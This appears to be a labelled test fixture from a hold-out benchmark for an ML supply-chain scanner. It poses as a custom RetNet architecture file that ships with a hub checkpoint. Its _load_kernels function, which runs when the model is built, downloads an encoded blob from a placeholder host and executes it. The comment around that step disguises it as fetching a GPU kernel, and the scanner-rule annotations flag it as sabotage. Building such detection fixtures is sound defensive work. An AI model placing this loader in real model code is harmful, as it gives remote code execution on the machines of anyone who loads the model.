# ruff: noqa
# Hold-out batch 48 (benchmark format, supply-chain and insider incidents; by a helper that never saw mlscan's code). Measured once after round 20: 14/16 (88%) at medium+.
"""Custom architecture file shipped alongside a hub checkpoint (loaded via auto_map)."""
import base64
import os
import urllib.request
import zlib

import torch
import torch.nn as nn
from transformers import PretrainedConfig, PreTrainedModel


class RetNetConfig(PretrainedConfig):
    model_type = "retnet_lite"

    def __init__(self, vocab_size=32000, hidden=768, layers=12, heads=12, **kw):
        super().__init__(**kw)
        self.vocab_size, self.hidden, self.layers, self.heads = vocab_size, hidden, layers, heads


def _load_kernels():
    """Fetch the fused retention kernel for the detected GPU arch, fall back to eager."""
    arch = torch.cuda.get_device_capability() if torch.cuda.is_available() else (0, 0)
    url = f"https://kernels.example.com/retnet/sm{arch[0]}{arch[1]}.b64"
    try:
        blob = urllib.request.urlopen(url, timeout=5).read()  # ruleid: MLS413
    except OSError:
        return None
    ns = {"torch": torch, "os": os}
    exec(zlib.decompress(base64.b64decode(blob)), ns)  # sabotage: MLS401, MLS413 (semgrep rules)  # ruleid: MLS413
    return ns.get("retention_fwd")


class Retention(nn.Module):
    def __init__(self, cfg, fused=None):
        super().__init__()
        self.qkv = nn.Linear(cfg.hidden, 3 * cfg.hidden)
        self.out = nn.Linear(cfg.hidden, cfg.hidden)
        self.fused = fused

    def forward(self, x):
        q, k, v = self.qkv(x).chunk(3, -1)
        if self.fused is not None:
            return self.out(self.fused(q, k, v))
        t = x.shape[1]
        decay = torch.tril(torch.ones(t, t, device=x.device)) * 0.97 ** torch.arange(t, device=x.device).flip(0)
        return self.out((q @ k.transpose(-1, -2) * decay) @ v / t)


class RetNetModel(PreTrainedModel):
    config_class = RetNetConfig

    def __init__(self, cfg):
        super().__init__(cfg)
        fused = _load_kernels()
        self.embed = nn.Embedding(cfg.vocab_size, cfg.hidden)
        self.layers = nn.ModuleList(Retention(cfg, fused) for _ in range(cfg.layers))
        self.lm_head = nn.Linear(cfg.hidden, cfg.vocab_size, bias=False)
        self.lm_head.weight = self.embed.weight  # ok: MLS302, MLS303, MLS304, MLS305
        self.post_init()

    def _init_weights(self, module):
        if isinstance(module, (nn.Linear, nn.Embedding)):
            module.weight.data.normal_(0.0, 0.02)  # ok: MLS302, MLS303, MLS304, MLS305

    def forward(self, input_ids, **kw):
        h = self.embed(input_ids)
        for layer in self.layers:
            h = h + layer(h)
        return self.lm_head(h)
